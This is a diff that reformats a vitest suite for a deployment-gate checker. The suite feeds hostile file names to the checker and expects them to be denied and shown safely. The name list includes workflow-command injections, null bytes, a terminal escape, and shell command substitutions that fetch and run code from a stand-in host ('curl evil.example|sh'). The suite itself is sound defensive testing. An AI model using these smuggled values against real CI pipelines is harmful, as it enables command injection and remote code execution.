@@ -4,19 +4,41 @@ import { expect, it } from 'vitest';
 import { RP_CHANGE } from '../acceptance/scenario.ts';
 import { judge, shown } from './support.ts';
 
-const NAMES = ['x\n::set-output name=gate::open', 'x\r\n', '\u0000', 'x.md\u0000', '$(curl evil.example|sh)', '";curl evil.example;"', '`id`', 'x.md\n', 'x.md ', '\u001B]0;owned\u0007', '-rf', '%0A::error::x'];
+const NAMES = [
+  'x\n::set-output name=gate::open',
+  'x\r\n',
+  '\u0000',
+  'x.md\u0000',
+  '$(curl evil.example|sh)',
+  '";curl evil.example;"',
+  '`id`',
+  'x.md\n',
+  'x.md ',
+  '\u001B]0;owned\u0007',
+  '-rf',
+  '%0A::error::x',
+];
 
 it('reach their cohort, and are told in one visible line each', async () => {
-  const run = await judge({ changes: { ...RP_CHANGE, ...Object.fromEntries(NAMES.map((name) => [`deploy/template-manager/${name}`, 'x\n'])) } });
+  const run = await judge({
+    changes: { ...RP_CHANGE, ...Object.fromEntries(NAMES.map((name) => [`deploy/template-manager/${name}`, 'x\n'])) },
+  });
   expect(run).toMatchObject({ verdict: 'deny', gate: 'closed', codes: ['approval.missing', 'reach.undeclared'] });
   expect(run.judgement.scope.reach['template-manager']).toHaveLength(NAMES.length);
   expect(shown(run)).toContain('[U+0000]');
 });
 
 it('in a guarded folder they are guarded', async () => {
-  expect(await judge({ changes: { ...RP_CHANGE, 'scripts/deploy/x\n.md': 'x\n', 'scripts/deploy/\u0000': 'x\n' } })).toMatchObject({ codes: ['policy.changed'], judgement: { scope: { guarded: ['scripts/deploy/\u0000', 'scripts/deploy/x\n.md'] } } });
+  expect(
+    await judge({ changes: { ...RP_CHANGE, 'scripts/deploy/x\n.md': 'x\n', 'scripts/deploy/\u0000': 'x\n' } }),
+  ).toMatchObject({
+    codes: ['policy.changed'],
+    judgement: { scope: { guarded: ['scripts/deploy/\u0000', 'scripts/deploy/x\n.md'] } },
+  });
 });
 
 it('the honest form: odd names of the declared cohort', async () => {
-  expect(await judge({ changes: { 'deploy/resource-publisher/a b (1).yml': 'x\n' } })).toMatchObject({ verdict: 'allow' });
+  expect(await judge({ changes: { 'deploy/resource-publisher/a b (1).yml': 'x\n' } })).toMatchObject({
+    verdict: 'allow',
+  });
 });
